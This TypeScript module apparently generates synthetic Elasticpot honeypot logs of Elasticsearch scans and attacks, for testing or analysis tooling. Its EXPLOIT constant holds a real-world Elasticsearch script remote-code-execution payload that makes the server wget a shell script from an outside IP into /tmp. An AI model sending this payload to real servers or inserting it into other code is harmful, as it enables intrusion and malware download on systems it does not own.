/**
 * Elasticpot (bontchev, 9200) `elasticpot/log/elasticpot.json`: compact Python JSON, event ids
 * elasticpot.recon ("Scan", "Head scan") and elasticpot.attack ("Exploit", with the payload),
 * `timestamp` `isoformat() + "Z"`. Its own daily file (HoneypotDailyLogFile): renamed to
 * `elasticpot.json.YYYY-MM-DD` at the first write after UTC midnight, as realdata/tpot-2022 has.
 * Realdata quirk: the User-Agent is logged HTML-escaped (`customers&#39; presences`).
 */
import type { Source } from "./addresses.ts";
import { US_PER_SECOND, pyIsoformat } from "./clock.ts";
import type { AttackerField, FormatModule, GeneratorContext } from "./format.ts";
import { stream } from "./format.ts";
import type { HostilePayload } from "../hostile/corpus.ts";
import { PotGenerator } from "./pot.ts";
import { htmlEscape, pyString } from "./pyjson.ts";

const DST_IP = "172.30.0.2";
const RECON = ["/", "/", "/_cat/indices", "/_all/_mapping", "/_cluster/stats", "/_nodes", "/_cat/indices?v", "/favicon.ico", "/_search?pretty"];
const EXPLOIT =
  '{"size":1,"script_fields":{"lupin":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"wget http://185.244.25.153/es.sh -O /tmp/es.sh\\").getText()"}}}';
const SCANNER_AGENTS = [
  "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers' presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com",
  "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
];

/** The payloads the escaped User-Agent still shows as sent. */
const unescaped = (p: HostilePayload): boolean => !/[&<>"']/.test(p.text);

export const elasticpotFormat: FormatModule = {
  name: "elasticpot",
  dir: "elasticpot/log",
  streams: [stream("elasticpot.json", "daily-utc")],
  countsAsAttack: true,
  fields: { url: "http-path", user_agent: "user-agent", payload: "http-body" },
  create: (ctx) => new ElasticpotGenerator(ctx),
};

class ElasticpotGenerator extends PotGenerator {
  constructor(ctx: GeneratorContext) {
    super(ctx, "elasticpot", { visitsPerWeek: 40 });
  }

  protected visit(t0: number, source: Source): void {
    const rng = this.rng;
    const exploit = this.sweeping || rng.chance(0.1);
    const requests = this.sweeping ? 1 : exploit ? 1 : rng.chance(0.6) ? 1 : rng.int(2, 4);
    const agent = rng.chance(0.15) ? rng.pick(SCANNER_AGENTS) : this.ctx.plainValues.userAgent(rng);
    let t = t0;
    for (let i = 0; i < requests; i++) {
      const srcPort = this.ports.take(source.ip);
      const url = this.pick("http-path", exploit ? "/_search?pretty" : rng.pick(RECON), t);
      const ua = this.pick("user-agent", agent, t, unescaped);
      const shown = htmlEscape(ua);
      const head = !exploit && rng.chance(0.1);
      const fields: AttackerField[] = [["url", url], ["user_agent", ua, shown === ua]];
      let line = `{"eventid":"elasticpot.${exploit ? "attack" : "recon"}","message":"${exploit ? "Exploit" : head ? "Head scan" : "Scan"}","url":${pyString(url)},"timestamp":"${pyIsoformat(t)}Z","src_ip":"${source.ip}","src_port":${srcPort},"dst_port":9200,"sensor":"t-pot","request":"${exploit ? "POST" : head ? "HEAD" : "GET"}","user_agent":${pyString(shown)}`;
      if (exploit) {
        const payload = this.pick("http-body", EXPLOIT, t);
        fields.push(["payload", payload]);
        line += `,"content_type":"application/x-www-form-urlencoded","payload":${pyString(payload)}`;
      }
      this.out(t, `${line},"dst_ip":"${DST_IP}"}`, this.fact(t, source, exploit ? "elasticpot.attack" : "elasticpot.recon", { port: 9200 }), fields);
      this.observe({ tsUs: t, endUs: t + rng.int(20_000, 400_000), src: source, srcPort, destPort: 9200, transport: "TCP", app: "http", detail: url, userAgent: ua });
      t += rng.int(100_000, 3 * US_PER_SECOND);
    }
  }
}
